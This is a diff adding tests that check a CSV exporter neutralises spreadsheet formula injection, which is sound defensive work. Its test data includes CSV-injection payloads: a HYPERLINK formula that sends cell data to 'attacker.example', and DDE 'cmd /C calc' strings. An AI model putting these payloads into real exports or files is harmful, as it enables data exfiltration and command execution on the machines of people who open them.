@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import re
@@ -22,6 +23,50 @@ def test_csv_has_every_rating_with_its_reason():
     assert list(table.columns) == ["pathway", "dimension", "score", "reason"]
     assert len(table) == 2 * len(views.tables.DIMENSIONS)
     assert "Alpha reason one." in set(table["reason"])
+
+
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "A fair reason.\r=1+1",
+    "A fair reason.\n@SUM(1+1)",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote():
+    alpha, beta = CONTENT.pathways["alpha"], CONTENT.pathways["beta"]
+    ratings = {
+        key: rating.model_copy(update={"reason": FORMULAS[i % len(FORMULAS)]})
+        for i, (key, rating) in enumerate(beta.ratings.items())
+    }
+    hostile = beta.model_copy(update={"short_name": "=1+1", "ratings": ratings})
+    content = type(CONTENT)(CONTENT.root, {"alpha": alpha, "beta": hostile})
+    text = export.comparison_csv(views.compare(content, ["alpha", "beta"]))
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(alpha.ratings) + len(ratings)  # no line break starts a new row
+    hostile_rows = [row for row in rows if row["pathway"] == "'=1+1"]
+    assert len(hostile_rows) == len(ratings)
+    assert {row["reason"] for row in hostile_rows} == {
+        f if f[0].isalpha() else "'" + f for f in FORMULAS
+    }
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # numbers stay numbers, and ordinary text is untouched
+    assert {row["score"] for row in rows} <= {"0", "1", "2", "3", "4"}
+    assert "Alpha reason one." in {row["reason"] for row in rows}
+
+
+def test_spreadsheet_safe_changes_only_text_that_starts_like_a_formula():
+    assert export.spreadsheet_safe("=A1") == "'=A1"
+    assert export.spreadsheet_safe("a = b") == "a = b"
+    assert export.spreadsheet_safe("") == ""
+    assert export.spreadsheet_safe(-3) == -3
+    assert export.spreadsheet_safe(2.5) == 2.5
 
 
 def test_html_inlines_the_chart_library_and_loads_nothing_from_the_network():
